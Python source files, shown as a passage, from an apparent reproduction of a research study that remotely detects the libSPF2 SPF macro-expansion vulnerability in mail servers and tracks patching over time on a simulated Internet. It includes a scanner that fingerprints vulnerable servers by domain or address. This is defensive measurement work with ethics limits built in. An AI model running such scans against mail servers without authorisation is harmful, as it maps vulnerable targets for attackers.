        """Which server a (suite, id) pair was allocated to."""
        return self._ip_for_label.get((suite, test_id))

    def mail_from_domain(self, suite: str, test_id: str) -> str:
        """The advertised MAIL FROM domain for one probe."""
        return f"{test_id}.{suite}.{self.base}"
