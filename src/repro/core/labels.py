"""Unique test labels (paper Section 5.1).

Every probed server gets a unique 4- or 5-character alphanumeric ``<id>``
label, and every test suite (measurement round) gets its own ``<suite>``
label.  Advertised MAIL FROM domains look like::

    <username>@<id>.<suite>.spf-test.dns-lab.org

Uniqueness serves two purposes: it ties every DNS query the measurement
server receives to exactly one (round, server) pair, and it guarantees no
query can be absorbed by a recursive resolver's cache.

Two allocation modes coexist:

- :meth:`LabelAllocator.new_id` hands out sequential ids — the simple
  one-at-a-time mode;
- :meth:`LabelAllocator.reserve_block` carves a fixed-size id range out
  of a suite's space up front, so a probe-execution worker can label its
  task's probes without coordinating with other workers, and the labels
  a task uses depend only on its position in the work list.  All mutable
  state is lock-guarded, so blocks may also be drawn from threads.
"""

from __future__ import annotations

import string
import threading
from typing import Dict, Optional, Tuple

from ..dns.name import Name
from ..errors import SimulationError

_ALPHABET = string.ascii_lowercase + string.digits
#: ids below this render as 4 characters; wider ones get 5.
_WIDE_THRESHOLD = len(_ALPHABET) ** 4 // 2


def _encode(value: int, width: int) -> str:
    chars = []
    for _ in range(width):
        value, digit = divmod(value, len(_ALPHABET))
        chars.append(_ALPHABET[digit])
    return "".join(reversed(chars))


def _label_for(counter: int) -> str:
    width = 4 if counter < _WIDE_THRESHOLD else 5
    return _encode(counter, width)


class LabelAllocator:
    """Hands out unique id labels per suite and remembers the mapping."""

    def __init__(self, base: Name) -> None:
        self.base = base
        self._next_suite = 0
        self._next_id: Dict[str, int] = {}
        self._ip_for_label: Dict[Tuple[str, str], str] = {}
        self._lock = threading.Lock()

    def new_suite(self) -> str:
        """A fresh test-suite label."""
        with self._lock:
            label = "s" + _encode(self._next_suite, 4)
            self._next_suite += 1
            self._next_id[label] = 0
        return label

    def adopt_suite(self, label: str) -> None:
        """Make a suite label allocated elsewhere usable here.

        A shard-world replica receives its suite labels from the parent
        process (which ran :meth:`new_suite`); adopting registers the
        label so :meth:`reserve_block` accepts it without disturbing the
        replica's own suite counter.
        """
        with self._lock:
            self._next_id.setdefault(label, 0)

    def new_id(self, suite: str, target_ip: str) -> str:
        """A fresh server id label within a suite, bound to ``target_ip``."""
        with self._lock:
            if suite not in self._next_id:
                raise SimulationError(f"unknown suite label {suite!r}")
            counter = self._next_id[suite]
            self._next_id[suite] = counter + 1
            label = _label_for(counter)
            self._ip_for_label[(suite, label)] = target_ip
        return label

    def reserve_block(self, suite: str, start: int, size: int) -> "LabelBlock":
        """Reserve ids ``[start, start + size)`` of ``suite`` for one task.

        Sequential allocation in the same suite continues above the
        highest reservation, so the two modes never collide.
        """
        with self._lock:
            if suite not in self._next_id:
                raise SimulationError(f"unknown suite label {suite!r}")
            self._next_id[suite] = max(self._next_id[suite], start + size)
        return LabelBlock(self, suite, start, size)

    def _bind(self, suite: str, label: str, target_ip: str) -> None:
        with self._lock:
            self._ip_for_label[(suite, label)] = target_ip

    def bind(self, suite: str, label: str, target_ip: str) -> None:
        """Record a (suite, id) → ip binding made in another process.

        The process executor re-binds each merged result's ``test_ids``
        so :meth:`ip_for` answers identically to a single-process run.
        """
        self._bind(suite, label, target_ip)

    def ip_for(self, suite: str, test_id: str) -> Optional[str]:
        """Which server a (suite, id) pair was allocated to."""
        return self._ip_for_label.get((suite, test_id))

    def mail_from_domain(self, suite: str, test_id: str) -> str:
        """The advertised MAIL FROM domain for one probe."""
        return f"{test_id}.{suite}.{self.base}"


class LabelBlock:
    """A contiguous id range reserved for one probe task."""

    __slots__ = ("allocator", "suite", "_next", "_end")

    def __init__(
        self, allocator: LabelAllocator, suite: str, start: int, size: int
    ) -> None:
        self.allocator = allocator
        self.suite = suite
        self._next = start
        self._end = start + size

    def new_id(self, target_ip: str) -> str:
        """The block's next id label, bound to ``target_ip``."""
        if self._next >= self._end:
            raise SimulationError(
                f"label block for suite {self.suite!r} exhausted at id {self._end}"
            )
        counter = self._next
        self._next += 1
        label = _label_for(counter)
        self.allocator._bind(self.suite, label, target_ip)
        return label

    @property
    def remaining(self) -> int:
        return self._end - self._next
