"""The full measurement campaign (paper Sections 5.3 and 7).

Timeline (all dates from :mod:`repro.clock`):

- **2021-10-11** — initial measurement of every domain in both sets:
  MX/A resolution, IP deduplication, NoMsg-then-BlankMsg detection;
- **2021-10-26 → 2021-11-30** — first longitudinal window, a round every
  2 days over the vulnerable + re-measurable addresses;
- **2021-11-15** — private notification (via a pluggable notifier);
- **2022-01-15 → 2022-02-14** — second window (public disclosure falls on
  2022-01-19, driven by the patch-behavior model, not the campaign);
- **final snapshot** — re-resolves MX records (catching servers that
  moved) and re-measures every initially vulnerable domain.

The domain→IP mapping is resolved once, before the initial measurement,
and *frozen* for the longitudinal rounds — exactly the paper's
methodology, and the reason its snapshot disagreed slightly with the
longitudinal series for domains that changed MX records mid-campaign.
"""

from __future__ import annotations

import datetime as _dt
import enum
from dataclasses import dataclass, field
from typing import Callable, Dict, List, Optional, Sequence, Set, Tuple

from .. import clock as clockmod
from ..clock import SimulatedClock
from ..dns.name import Name
from ..dns.resolver import CachingResolver, StubResolver
from ..dns.server import SpfTestResponder
from ..errors import CampaignError, ResolutionError
from ..exec import (
    ClockRouter,
    ExecutionEnvironment,
    ProbeTask,
    RetryPolicy,
    make_executor,
)
from ..internet.mta_fleet import MtaFleet
from ..internet.population import Domain, DomainPopulation, DomainSet
from ..smtp.transport import Network
from .detector import (
    DetectionOutcome,
    DetectionResult,
    ProbeMethod,
)
from .ethics import EthicsControls
from .fingerprint import ExpansionBehavior
from .labels import LabelAllocator


class DomainStatus(enum.Enum):
    """Domain-level classification (paper Section 5.1 rules)."""

    VULNERABLE = "vulnerable"
    PATCHED = "patched"
    NOT_VULNERABLE = "not-vulnerable"
    UNKNOWN = "unknown"


@dataclass(frozen=True)
class CampaignConfig:
    """Campaign-level knobs."""

    base_domain: str = "spf-test.dns-lab.org"
    probe_client_ip: str = "198.51.100.7"
    round_interval: _dt.timedelta = _dt.timedelta(days=2)
    #: Simulated seconds budgeted per probe for clock advancement.
    seconds_per_probe: float = 0.25
    initial_measurement: _dt.datetime = clockmod.INITIAL_MEASUREMENT
    window1_start: _dt.datetime = clockmod.LONGITUDINAL_START
    window1_end: _dt.datetime = clockmod.MEASUREMENTS_PAUSED
    notification_date: _dt.datetime = clockmod.PRIVATE_NOTIFICATION
    window2_start: _dt.datetime = clockmod.MEASUREMENTS_RESUMED
    window2_end: _dt.datetime = clockmod.FINAL_MEASUREMENT


@dataclass
class IpInitialRecord:
    """One address's initial-measurement outcome."""

    ip: str
    result: DetectionResult

    @property
    def outcome(self) -> DetectionOutcome:
        return self.result.outcome

    @property
    def behaviors(self) -> Set[ExpansionBehavior]:
        return self.result.behaviors


@dataclass
class InitialMeasurement:
    """The initial sweep's full results."""

    date: _dt.datetime
    domain_ips: Dict[str, List[str]]  # frozen domain -> address mapping
    ip_records: Dict[str, IpInitialRecord]
    domain_status: Dict[str, DomainStatus]

    def vulnerable_ips(self) -> List[str]:
        return [
            ip
            for ip, record in self.ip_records.items()
            if record.outcome == DetectionOutcome.VULNERABLE
        ]

    def remeasurable_ips(self) -> List[str]:
        """Inconclusive addresses that showed *some* SPF activity."""
        return [
            ip
            for ip, record in self.ip_records.items()
            if not record.outcome.spf_measured
            and record.outcome
            not in (DetectionOutcome.REFUSED,)
            and record.result.queries_observed > 0
        ]

    def vulnerable_domains(self) -> List[str]:
        return [
            name
            for name, status in self.domain_status.items()
            if status == DomainStatus.VULNERABLE
        ]


@dataclass
class MeasurementRound:
    """One longitudinal round over the tracked addresses."""

    date: _dt.datetime
    results: Dict[str, DetectionOutcome]
    methods: Dict[str, Optional[ProbeMethod]] = field(default_factory=dict)


@dataclass
class CampaignResult:
    """Everything a full campaign produced."""

    initial: InitialMeasurement
    rounds: List[MeasurementRound]
    snapshot_status: Dict[str, DomainStatus]
    snapshot_date: Optional[_dt.datetime] = None
    notification_report: Optional[object] = None


#: Called at the notification date with the measured-vulnerable domains.
NotifierFn = Callable[[Sequence[str], _dt.datetime], object]


class MeasurementCampaign:
    """Drives the whole measurement against a generated Internet."""

    def __init__(
        self,
        population: DomainPopulation,
        fleet: MtaFleet,
        *,
        config: Optional[CampaignConfig] = None,
        clock: Optional[SimulatedClock] = None,
        notifier: Optional[NotifierFn] = None,
        executor: Optional[object] = None,
        workers: int = 1,
        retry: Optional[RetryPolicy] = None,
        world: Optional[object] = None,
        ip_filter: Optional[Callable[[str], bool]] = None,
    ) -> None:
        self.population = population
        self.fleet = fleet
        self.config = config or CampaignConfig()
        self.clock = clock or SimulatedClock(start=self.config.initial_measurement)
        self.notifier = notifier

        base = Name.from_text(self.config.base_domain)
        self.responder = SpfTestResponder(base)
        # Every time read below the campaign goes through the router, so
        # probes observe their task's virtual timeslot regardless of the
        # execution strategy (see repro.exec).
        self.clock_router = ClockRouter(self.clock)
        self.resolver = CachingResolver(clock=self.clock_router)
        self.resolver.register(base, self.responder)
        self.resolver.register(Name.root(), self.fleet.dns_backend)

        # ``ip_filter`` restricts the live network to a shard's slice of
        # addresses (see repro.exec.shardworld); full campaigns pass None.
        self.network: Network = fleet.build_network(
            self.clock_router, self.resolver, ip_filter=ip_filter
        )
        self.labels = LabelAllocator(base)
        self.ethics = EthicsControls()
        self._stub = StubResolver(
            self.resolver, identity="measurement", clock=self.clock_router
        )
        self.env = ExecutionEnvironment(
            clock=self.clock,
            network=self.network,
            responder=self.responder,
            labels=self.labels,
            ethics=self.ethics,
            client_ip=self.config.probe_client_ip,
            seconds_per_probe=self.config.seconds_per_probe,
            router=self.clock_router,
        )
        self.executor = make_executor(
            executor, self.env, workers=workers, retry=retry, world=world
        )
        #: preferred probe method per address, learned at initial time.
        self._preferred: Dict[str, ProbeMethod] = {}
        #: a representative hosted domain per address (RCPT TO targets).
        self._ip_domain: Dict[str, str] = {}
        self.initial: Optional[InitialMeasurement] = None
        #: virtual instant at which the notifier ran (``None`` until it
        #: has); checkpoints persist it so a resume can replay the
        #: notification at the exact clock reading the original run used.
        self._notified_clock: Optional[_dt.datetime] = None

    # -- resolution -----------------------------------------------------------

    def resolve_domain_ips(self, domains: Optional[Sequence[Domain]] = None) -> Dict[str, List[str]]:
        """MX → A resolution for every domain (RFC 5321 target selection)."""
        mapping: Dict[str, List[str]] = {}
        for domain in domains if domains is not None else self.population.domains:
            mapping[domain.name] = self._resolve_one(domain.name)
        return mapping

    def _resolve_one(self, domain_name: str) -> List[str]:
        try:
            exchanges = self._stub.get_mx(domain_name)
            if exchanges:
                addresses: List[str] = []
                for _, exchange in exchanges:
                    addresses.extend(
                        str(a) for a in self._stub.get_addresses(exchange, want_ipv6=False)
                    )
                return addresses
            # No MX: fall back to the domain's own A record (RFC 5321).
            return [
                str(a) for a in self._stub.get_addresses(domain_name, want_ipv6=False)
            ]
        except ResolutionError:
            return []

    def resolve_ips(self, domain_name: str) -> List[str]:
        """Public single-domain MX→A resolution (RFC 5321 target selection).

        The same resolution path :meth:`run_initial` and the final
        snapshot use, so API/daemon callers and batch runs agree on a
        domain's address list.
        """
        return self._resolve_one(domain_name)

    def recipient_domain(self, ip: str, default: Optional[str] = None) -> Optional[str]:
        """The representative hosted domain used as an address's RCPT TO
        target (learned at initial-measurement time), or ``default``."""
        return self._ip_domain.get(ip, default)

    # -- probe dispatch ------------------------------------------------------------

    def _probe_ips(
        self,
        stage: str,
        ips: Sequence[str],
        *,
        use_preferred: bool = True,
        recipient_domains: Optional[Dict[str, str]] = None,
    ) -> Dict[str, DetectionResult]:
        """Run one stage's work list through the execution engine.

        This is the single home of the bookkeeping the three measurement
        loops used to copy: suite allocation, preferred-method learning,
        and per-probe clock advancement (now the executor's clock-advance
        protocol).
        """
        suite = self.labels.new_suite()
        recipients = recipient_domains if recipient_domains is not None else self._ip_domain
        tasks = [
            ProbeTask(
                ip=ip,
                suite=suite,
                preferred_method=self._preferred.get(ip) if use_preferred else None,
                recipient_domain=recipients.get(ip),
            )
            for ip in ips
        ]
        results = self.executor.run_stage(stage, tasks)
        out: Dict[str, DetectionResult] = {}
        for task, result in zip(tasks, results):
            if result.successful_method is not None:
                self._preferred[task.ip] = result.successful_method
            out[task.ip] = result
        return out

    def probe_ips(
        self,
        stage: str,
        ips: Sequence[str],
        *,
        use_preferred: bool = True,
        recipient_domains: Optional[Dict[str, str]] = None,
    ) -> Dict[str, DetectionResult]:
        """Public probe dispatch: one stage's work list through the
        execution engine.

        This is the exact code path of the batch measurement loops
        (suite allocation, preferred-method learning, per-probe clock
        advancement), exposed so :class:`repro.api.RunHandle` and the
        serve daemon produce byte-identical task trace events to a
        batch run of the same probes.
        """
        return self._probe_ips(
            stage,
            ips,
            use_preferred=use_preferred,
            recipient_domains=recipient_domains,
        )

    def _require_initial(self) -> InitialMeasurement:
        if self.initial is None:
            raise CampaignError(
                "the initial measurement has not run yet — call run_initial() "
                "(or run()) before longitudinal rounds or the final snapshot"
            )
        return self.initial

    # -- initial measurement ------------------------------------------------------

    def run_initial(self) -> InitialMeasurement:
        """The 2021-10-11 sweep over both domain sets."""
        self.clock.advance_to(max(self.clock.now, self.config.initial_measurement))
        domain_ips = self.resolve_domain_ips()

        unique_ips: List[str] = []
        seen: Set[str] = set()
        for name, ips in domain_ips.items():
            for ip in ips:
                if ip not in seen:
                    seen.add(ip)
                    unique_ips.append(ip)
                    self._ip_domain[ip] = name

        results = self._probe_ips("initial", unique_ips)
        ip_records = {
            ip: IpInitialRecord(ip=ip, result=result)
            for ip, result in results.items()
        }

        domain_status = {
            name: self._domain_status_from_ips(ips, ip_records)
            for name, ips in domain_ips.items()
        }
        self.initial = InitialMeasurement(
            date=self.config.initial_measurement,
            domain_ips=domain_ips,
            ip_records=ip_records,
            domain_status=domain_status,
        )
        return self.initial

    @staticmethod
    def _domain_status_from_ips(
        ips: List[str], records: Dict[str, IpInitialRecord]
    ) -> DomainStatus:
        """A domain is vulnerable if *any* of its addresses is."""
        outcomes = [records[ip].outcome for ip in ips if ip in records]
        if any(o == DetectionOutcome.VULNERABLE for o in outcomes):
            return DomainStatus.VULNERABLE
        if any(o.spf_measured for o in outcomes):
            return DomainStatus.NOT_VULNERABLE
        return DomainStatus.UNKNOWN

    # -- longitudinal rounds ------------------------------------------------------

    def tracked_ips(self) -> List[str]:
        """Addresses contacted after the initial sweep (Section 6.1)."""
        initial = self._require_initial()
        return initial.vulnerable_ips() + initial.remeasurable_ips()

    def run_round(self, date: _dt.datetime, tracked: Sequence[str]) -> MeasurementRound:
        """One longitudinal measurement round."""
        self.clock.advance_to(max(self.clock.now, date))
        self.ethics.reset_round()
        probe_results = self._probe_ips(f"round {date.date().isoformat()}", tracked)
        results = {ip: r.outcome for ip, r in probe_results.items()}
        methods = {ip: r.successful_method for ip, r in probe_results.items()}
        return MeasurementRound(date=date, results=results, methods=methods)

    def round_dates(self) -> List[_dt.datetime]:
        """Every scheduled longitudinal round date (both windows)."""
        dates: List[_dt.datetime] = []
        for start, end in (
            (self.config.window1_start, self.config.window1_end),
            (self.config.window2_start, self.config.window2_end),
        ):
            current = start
            while current <= end:
                dates.append(current)
                current += self.config.round_interval
        return dates

    # -- full run -----------------------------------------------------------------

    def run(self, *, store=None) -> CampaignResult:
        """Execute the entire campaign timeline.

        ``store`` is an optional checkpoint writer (duck-typed:
        ``after_initial(campaign)`` / ``after_round(campaign, rounds,
        notified)``, see :class:`repro.store.CheckpointWriter`); it is
        invoked after the initial sweep and after every completed round,
        so a killed run can be continued via :meth:`resume_run`.
        """
        initial = self.run_initial()
        if store is not None:
            store.after_initial(self)
        return self._run_rounds(initial, rounds=[], notified=False,
                                notification_report=None, store=store)

    def resume_run(self, resumed, *, store=None) -> CampaignResult:
        """Continue a checkpointed campaign with the remaining rounds.

        ``resumed`` carries the restored progress (duck-typed:
        ``rounds``, ``notified``, ``notification_report`` — see
        :class:`repro.store.ResumeState`).  The caller is responsible
        for having restored the world first: ``self.initial``, the
        clock, server/resolver/label state, and the executor's event
        history must already match the checkpoint instant.
        """
        initial = self._require_initial()
        return self._run_rounds(
            initial,
            rounds=list(resumed.rounds),
            notified=resumed.notified,
            notification_report=resumed.notification_report,
            store=store,
        )

    def _run_rounds(
        self,
        initial: InitialMeasurement,
        *,
        rounds: List[MeasurementRound],
        notified: bool,
        notification_report: Optional[object],
        store,
    ) -> CampaignResult:
        """The longitudinal loop, entered fresh or from a checkpoint.

        ``rounds`` holds the rounds already completed (empty for a fresh
        run); the loop continues with the remaining ``round_dates()``.
        """
        tracked = self.tracked_ips()
        for date in self.round_dates()[len(rounds):]:
            if (
                not notified
                and self.notifier is not None
                and date >= self.config.notification_date
            ):
                self.clock.advance_to(max(self.clock.now, self.config.notification_date))
                self._notified_clock = self.clock.now
                notification_report = self.notifier(
                    initial.vulnerable_domains(), self.config.notification_date
                )
                # Shard-world replicas must mirror the notification's
                # clock/RNG effects; other executors ignore the hook.
                self.executor.record_notification(
                    initial.vulnerable_domains(), self.config.notification_date
                )
                notified = True
            rounds.append(self.run_round(date, tracked))
            if store is not None:
                store.after_round(self, rounds, notified)

        snapshot_date = self.config.window2_end
        snapshot = self.run_snapshot(snapshot_date)
        return CampaignResult(
            initial=initial,
            rounds=rounds,
            snapshot_status=snapshot,
            snapshot_date=snapshot_date,
            notification_report=notification_report,
        )

    # -- final snapshot --------------------------------------------------------------

    def run_snapshot(self, date: _dt.datetime) -> Dict[str, DomainStatus]:
        """Re-resolve MX records and re-measure initially vulnerable domains.

        Fresh resolution picks up servers that moved mid-campaign, which
        is why the paper's snapshot concluded on domains the longitudinal
        series had lost (Section 7.2).
        """
        initial = self._require_initial()
        self.clock.advance_to(max(self.clock.now, date))
        self.resolver.flush()  # pick up moved MX/A data
        vulnerable = initial.vulnerable_domains()

        # Fresh resolution first; duplicate addresses are probed once.
        domain_ips: Dict[str, List[str]] = {}
        unique_ips: List[str] = []
        recipients: Dict[str, str] = {}
        for name in vulnerable:
            ips = self._resolve_one(name)
            domain_ips[name] = ips
            for ip in ips:
                if ip not in recipients:
                    recipients[ip] = self._ip_domain.get(ip, name)
                    unique_ips.append(ip)

        results = self._probe_ips(
            "snapshot", unique_ips, recipient_domains=recipients
        )
        return {
            name: self._snapshot_status([results[ip].outcome for ip in ips])
            for name, ips in domain_ips.items()
        }

    @staticmethod
    def _snapshot_status(outcomes: List[DetectionOutcome]) -> DomainStatus:
        if any(o == DetectionOutcome.VULNERABLE for o in outcomes):
            return DomainStatus.VULNERABLE
        if outcomes and all(o.spf_measured for o in outcomes):
            return DomainStatus.PATCHED
        if any(o.spf_measured for o in outcomes):
            return DomainStatus.PATCHED  # conclusive and none vulnerable
        return DomainStatus.UNKNOWN
