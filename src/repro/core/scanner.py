"""A self-contained scanning front end over the detection technique.

:class:`SpfVulnerabilityScanner` is what a downstream operator would
actually run: point it at a set of mail-server addresses (or domains —
it resolves MX records itself), and it produces a
:class:`ScanReport` classifying every server's SPF macro behavior, with
the same ethics limits the paper imposed.

This wraps the lower-level pieces (labels, detector, ethics) behind one
object, so adopting the technique takes four lines:

>>> scanner = SpfVulnerabilityScanner(network, responder, clock=clock)
... # doctest: +SKIP
>>> report = scanner.scan_ips(["203.0.113.10", "203.0.113.20"])
... # doctest: +SKIP
"""

from __future__ import annotations

import datetime as _dt
from dataclasses import dataclass, field
from typing import Dict, Iterable, List, Optional, Sequence

from ..clock import SimulatedClock
from ..dns.resolver import StubResolver
from ..dns.server import SpfTestResponder
from ..errors import ResolutionError
from ..exec import ExecutionEnvironment, ProbeTask, RetryPolicy, make_executor
from ..smtp.transport import Network
from .detector import DetectionOutcome, DetectionResult
from .ethics import EthicsControls
from .fingerprint import ExpansionBehavior
from .labels import LabelAllocator


@dataclass
class ScanReport:
    """The outcome of one scan invocation."""

    started: _dt.datetime
    results: Dict[str, DetectionResult] = field(default_factory=dict)
    #: domain → addresses, for domain-mode scans.
    domain_ips: Dict[str, List[str]] = field(default_factory=dict)

    @property
    def scanned(self) -> int:
        return len(self.results)

    def vulnerable_ips(self) -> List[str]:
        return [
            ip
            for ip, result in self.results.items()
            if result.outcome == DetectionOutcome.VULNERABLE
        ]

    def erroneous_ips(self) -> List[str]:
        return [
            ip
            for ip, result in self.results.items()
            if result.outcome == DetectionOutcome.ERRONEOUS
        ]

    def vulnerable_domains(self) -> List[str]:
        vulnerable = set(self.vulnerable_ips())
        return sorted(
            name
            for name, ips in self.domain_ips.items()
            if any(ip in vulnerable for ip in ips)
        )

    def outcome_counts(self) -> Dict[DetectionOutcome, int]:
        counts: Dict[DetectionOutcome, int] = {}
        for result in self.results.values():
            counts[result.outcome] = counts.get(result.outcome, 0) + 1
        return counts

    def summary(self) -> str:
        """A terse operator-facing summary."""
        lines = [f"scanned {self.scanned} address(es)"]
        for outcome, count in sorted(
            self.outcome_counts().items(), key=lambda kv: (-kv[1], kv[0].value)
        ):
            lines.append(f"  {outcome.value:<14} {count}")
        vulnerable = self.vulnerable_ips()
        if vulnerable:
            lines.append("vulnerable addresses:")
            for ip in vulnerable:
                behaviors = sorted(
                    b.value for b in self.results[ip].behaviors
                )
                lines.append(f"  {ip}  ({', '.join(behaviors)})")
        if self.domain_ips:
            lines.append(
                f"vulnerable domains: {len(self.vulnerable_domains())} "
                f"of {len(self.domain_ips)}"
            )
        return "\n".join(lines)


class SpfVulnerabilityScanner:
    """Scan mail servers for the libSPF2 macro-expansion fingerprint."""

    def __init__(
        self,
        network: Network,
        responder: SpfTestResponder,
        *,
        clock: Optional[SimulatedClock] = None,
        resolver: Optional[StubResolver] = None,
        client_ip: str = "198.51.100.7",
        ethics: Optional[EthicsControls] = None,
        executor: Optional[object] = None,
        retry: Optional[RetryPolicy] = None,
    ) -> None:
        self.clock = clock or SimulatedClock()
        self.responder = responder
        self.resolver = resolver
        self.labels = LabelAllocator(responder.base)
        self.ethics = ethics or EthicsControls()
        # The scanner is handed an already-clocked network, so it runs the
        # engine in direct-clock mode (no router): probes advance the
        # scanner's clock itself, and the serial strategy is the default.
        # The "process" strategy is unavailable here — a pre-built network
        # cannot be described by a seeded RunConfig, so make_executor
        # rejects it with an explanatory error.
        self.env = ExecutionEnvironment(
            clock=self.clock,
            network=network,
            responder=responder,
            labels=self.labels,
            ethics=self.ethics,
            client_ip=client_ip,
        )
        self.executor = make_executor(executor, self.env, retry=retry)

    # -- scanning ---------------------------------------------------------------

    def scan_ips(
        self, ips: Sequence[str], *, recipient_domains: Optional[Dict[str, str]] = None
    ) -> ScanReport:
        """Scan a list of server addresses (deduplicated, one suite)."""
        report = ScanReport(started=self.clock.now)
        suite = self.labels.new_suite()
        recipient_domains = recipient_domains or {}
        seen = set()
        unique: List[str] = []
        for ip in ips:
            if ip in seen:
                continue  # paper §6.1: duplicate addresses tested once
            seen.add(ip)
            unique.append(ip)
        tasks = [
            ProbeTask(ip=ip, suite=suite, recipient_domain=recipient_domains.get(ip))
            for ip in unique
        ]
        results = self.executor.run_stage("scan", tasks)
        for task, result in zip(tasks, results):
            report.results[task.ip] = result
        return report

    def scan_domains(self, domains: Sequence[str]) -> ScanReport:
        """Resolve each domain's MX records and scan the unique addresses.

        Requires the scanner to have been built with a ``resolver``.
        """
        if self.resolver is None:
            raise ResolutionError("scanner was built without a resolver")
        domain_ips: Dict[str, List[str]] = {}
        recipient_domains: Dict[str, str] = {}
        ordered: List[str] = []
        for name in domains:
            ips = self._resolve(name)
            domain_ips[name] = ips
            for ip in ips:
                if ip not in recipient_domains:
                    recipient_domains[ip] = name
                    ordered.append(ip)
        report = self.scan_ips(ordered, recipient_domains=recipient_domains)
        report.domain_ips = domain_ips
        return report

    def _resolve(self, domain: str) -> List[str]:
        assert self.resolver is not None
        try:
            exchanges = self.resolver.get_mx(domain)
            if exchanges:
                addresses: List[str] = []
                for _, exchange in exchanges:
                    addresses.extend(
                        str(a)
                        for a in self.resolver.get_addresses(exchange, want_ipv6=False)
                    )
                return addresses
            return [
                str(a)
                for a in self.resolver.get_addresses(domain, want_ipv6=False)
            ]
        except ResolutionError:
            return []
