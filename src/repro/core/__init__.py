"""The paper's primary contribution: benign remote vulnerability detection
and the longitudinal measurement built on it.

- :mod:`repro.core.fingerprint` — classify an observed macro expansion
  (the DNS query prefix) into an SPF-implementation behavior; the
  vulnerable libSPF2 pattern is uniquely distinguishable (Section 4.2).
- :mod:`repro.core.labels` — the unique ``<id>``/``<suite>`` labels that
  tie DNS queries to individual probe transactions and defeat caching.
- :mod:`repro.core.detector` — drive NoMsg/BlankMsg SMTP probes against
  one server and classify it from the measurement DNS log (Section 5.1).
- :mod:`repro.core.ethics` — the measurement's self-imposed limits:
  IP deduplication, concurrency cap, inter-connection waits, greylist
  backoff (Section 6).
- :mod:`repro.core.campaign` — the full measurement: MX resolution,
  initial sweep, 2-day longitudinal rounds in two windows, the final
  snapshot, and the notification hook (Sections 5.3, 7).
- :mod:`repro.core.inference` — the vulnerable-before/patched-after
  inference rules for rounds with missing results (Section 7.6).
"""

from .fingerprint import (
    ExpansionBehavior,
    classify_prefix,
    classify_prefixes,
    expected_prefixes,
)
from .labels import LabelAllocator
from .detector import (
    DetectionOutcome,
    DetectionResult,
    ProbeMethod,
    VulnerabilityDetector,
)
from .ethics import EthicsControls, EthicsViolation
from .campaign import (
    CampaignConfig,
    CampaignResult,
    DomainStatus,
    InitialMeasurement,
    IpInitialRecord,
    MeasurementCampaign,
    MeasurementRound,
)
from .inference import InferenceEngine, IpTimeline, RoundSummary
from .scanner import ScanReport, SpfVulnerabilityScanner

__all__ = [
    "ExpansionBehavior",
    "classify_prefix",
    "classify_prefixes",
    "expected_prefixes",
    "LabelAllocator",
    "DetectionOutcome",
    "DetectionResult",
    "ProbeMethod",
    "VulnerabilityDetector",
    "EthicsControls",
    "EthicsViolation",
    "CampaignConfig",
    "CampaignResult",
    "DomainStatus",
    "InitialMeasurement",
    "IpInitialRecord",
    "MeasurementCampaign",
    "MeasurementRound",
    "InferenceEngine",
    "IpTimeline",
    "RoundSummary",
    "ScanReport",
    "SpfVulnerabilityScanner",
]
