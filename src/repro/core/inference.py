"""Inference rules for rounds with missing results (paper Section 7.6).

Not every tracked address answers every round (blacklisting, moves,
outages).  The paper bridges the gaps with two rules, both resting on the
assumption that MTAs do not regress after patching:

1. an address measured **vulnerable** at time *t* is inferred vulnerable
   for every time before *t* (back to the start of measurements);
2. an address measured **patched** at time *t* is inferred patched for
   every time after *t*.

Rounds where neither measurement nor inference applies are inconclusive.
Domain-level status aggregates over the domain's initially vulnerable
addresses: vulnerable while any is vulnerable, patched when all are.
"""

from __future__ import annotations

import datetime as _dt
import enum
from dataclasses import dataclass, field
from typing import Dict, Iterable, List, Optional, Sequence, Set, Tuple

from .campaign import InitialMeasurement, MeasurementRound
from .detector import DetectionOutcome


class InferredStatus(enum.Enum):
    VULNERABLE = "vulnerable"
    PATCHED = "patched"
    INCONCLUSIVE = "inconclusive"


class Provenance(enum.Enum):
    MEASURED = "measured"
    INFERRED = "inferred"
    NONE = "none"


@dataclass
class IpTimeline:
    """One address's observation history and inference bounds."""

    ip: str
    observations: List[Tuple[_dt.datetime, DetectionOutcome]] = field(default_factory=list)
    last_vulnerable: Optional[_dt.datetime] = None
    first_patched: Optional[_dt.datetime] = None

    def observe(self, date: _dt.datetime, outcome: DetectionOutcome) -> None:
        self.observations.append((date, outcome))
        if outcome == DetectionOutcome.VULNERABLE:
            if self.last_vulnerable is None or date > self.last_vulnerable:
                self.last_vulnerable = date
        elif outcome.spf_measured:  # compliant or erroneous-non-vulnerable
            if self.first_patched is None or date < self.first_patched:
                self.first_patched = date

    def status_at(self, date: _dt.datetime) -> Tuple[InferredStatus, Provenance]:
        """Status and how we know it, at one instant."""
        measured = next(
            (outcome for d, outcome in self.observations if d == date), None
        )
        if measured is not None and measured.spf_measured:
            status = (
                InferredStatus.VULNERABLE
                if measured == DetectionOutcome.VULNERABLE
                else InferredStatus.PATCHED
            )
            return status, Provenance.MEASURED
        if self.last_vulnerable is not None and date <= self.last_vulnerable:
            return InferredStatus.VULNERABLE, Provenance.INFERRED
        if self.first_patched is not None and date >= self.first_patched:
            return InferredStatus.PATCHED, Provenance.INFERRED
        return InferredStatus.INCONCLUSIVE, Provenance.NONE


@dataclass
class RoundSummary:
    """Aggregated counts for one round date (Figures 5-8 series)."""

    date: _dt.datetime
    total: int
    measured: int
    inferred: int
    inconclusive: int
    vulnerable: int
    patched: int

    @property
    def conclusive(self) -> int:
        return self.measured + self.inferred

    @property
    def vulnerable_fraction(self) -> float:
        """Vulnerable share among status-determinable items."""
        determinable = self.vulnerable + self.patched
        return self.vulnerable / determinable if determinable else 0.0


class InferenceEngine:
    """Builds timelines from campaign output and answers status queries."""

    def __init__(
        self,
        initial: InitialMeasurement,
        rounds: Sequence[MeasurementRound],
    ) -> None:
        self.initial = initial
        self.rounds = list(rounds)
        self.timelines: Dict[str, IpTimeline] = {}

        for ip in initial.vulnerable_ips():
            timeline = IpTimeline(ip=ip)
            timeline.observe(initial.date, DetectionOutcome.VULNERABLE)
            self.timelines[ip] = timeline

        for round_ in self.rounds:
            for ip, outcome in round_.results.items():
                if ip in self.timelines:
                    self.timelines[ip].observe(round_.date, outcome)

        #: initially vulnerable domains → their initially vulnerable IPs.
        self.domain_vulnerable_ips: Dict[str, List[str]] = {}
        vulnerable_ip_set = set(self.timelines)
        for name in initial.vulnerable_domains():
            self.domain_vulnerable_ips[name] = [
                ip for ip in initial.domain_ips.get(name, []) if ip in vulnerable_ip_set
            ]

    # -- status queries ---------------------------------------------------------

